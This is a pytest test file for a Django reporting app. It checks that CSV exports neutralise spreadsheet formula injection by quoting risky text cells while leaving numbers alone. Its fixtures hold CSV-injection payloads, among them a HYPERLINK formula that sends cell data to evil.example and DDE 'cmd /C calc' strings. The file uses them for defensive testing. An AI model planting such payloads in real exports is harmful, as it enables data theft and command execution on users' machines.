"""CSV injection (OWASP): a text cell a spreadsheet would run as a formula leaves the export with
a leading `'`, in every report and the event log; numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.db.models import F
from rest_framework import serializers

from orders import services
from reporting import queries
from reporting.api import export
from reporting.catalog import REPORTS, report_get
from tests.factories import customer_make, order_make, product_make

pytestmark = pytest.mark.django_db(transaction=True)

FORMULAS = {
    "customer": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "email": "=cmd@example.com",  # a valid address that is also a formula
    "product": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sku": "-2+3+cmd|' /C calc'!A0",
    "plus": "+1+1",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(body, newline="")))


@pytest.fixture
def hostile(fresh_views):
    """Names an attacker chose, on every report that carries text."""
    eve = customer_make(name=FORMULAS["customer"], email=FORMULAS["email"])
    evil = product_make(sku=FORMULAS["sku"], name=FORMULAS["product"], unit_price=Decimal("2"))
    for key in ("plus", "tab", "cr"):
        product_make(sku=f"X-{key}", name=FORMULAS[key])
    order = order_make(eve, [(evil, 3)])
    services.order_cancel(order_id=order_make(eve, [(evil, 1)]).pk)
    return order


def test_no_text_cell_of_any_export_starts_a_formula(api, hostile):
    exported = {
        report.route: csv_of(api.get(f"/api/reports/{report.route}/?format=csv"))
        for report in REPORTS
    }
    exported["events"] = csv_of(api.get("/api/reports/events/?format=csv"))
    for route, rows in exported.items():
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(TRIGGERS), (route, cell)

    customers = {r[1]: r for r in exported["customers"][1:]}  # by name
    assert customers["'" + FORMULAS["customer"]][2] == "'" + FORMULAS["email"]
    assert customers["'" + FORMULAS["customer"]][4] == "6.00"
    products = [r for r in exported["products"][1:]]
    assert ["'" + FORMULAS["sku"], "'" + FORMULAS["product"]] in [r[1:3] for r in products]
    names = {r[2] for r in products}
    assert {"'" + FORMULAS[key] for key in ("plus", "tab", "cr")} <= names
    orders = exported["orders"][1:]
    assert {r[2] for r in orders} == {"'" + FORMULAS["customer"]}
    assert {r[3] for r in orders} == {"'" + FORMULAS["email"]}


def test_one_row_as_csv_is_neutralised_too(api, hostile):
    rows = csv_of(api.get(f"/api/reports/customers/{hostile.customer_id}/?format=csv"))
    assert rows[1][1:3] == ["'" + FORMULAS["customer"], "'" + FORMULAS["email"]]
    assert rows[1][4] == "6.00"  # the lifetime value stays a number


def test_numbers_stay_numbers_negative_ones_included(hostile):
    """A negative amount is a number, not text: no quote, whatever its sign."""

    class Amounts(serializers.Serializer):
        order_id = serializers.IntegerField()
        total_amount = serializers.DecimalField(max_digits=12, decimal_places=2)
        refund = serializers.DecimalField(max_digits=12, decimal_places=2)
        customer_name = serializers.CharField()

    rows = queries.rows(report_get("order_summary")).annotate(refund=-F("total_amount"))
    lines = list(export.csv_lines(rows, Amounts))
    assert lines[0] == "order_id,total_amount,refund,customer_name\r\n"
    parsed = list(csv.reader(io.StringIO("".join(lines), newline="")))[1:]
    assert sorted((r[1], r[2]) for r in parsed) == [("2.00", "-2.00"), ("6.00", "-6.00")]
    assert {r[3] for r in parsed} == {"'" + FORMULAS["customer"]}

    one = export.CSVRenderer().render(
        {"order_id": 1, "total_amount": "-6.00", "customer_name": "-6.00"},
        renderer_context={"view": type("V", (), {"get_serializer_class": lambda s: Amounts})()},
    )
    assert one.splitlines()[1] == "1,-6.00,'-6.00"  # the name is text, the amount a number
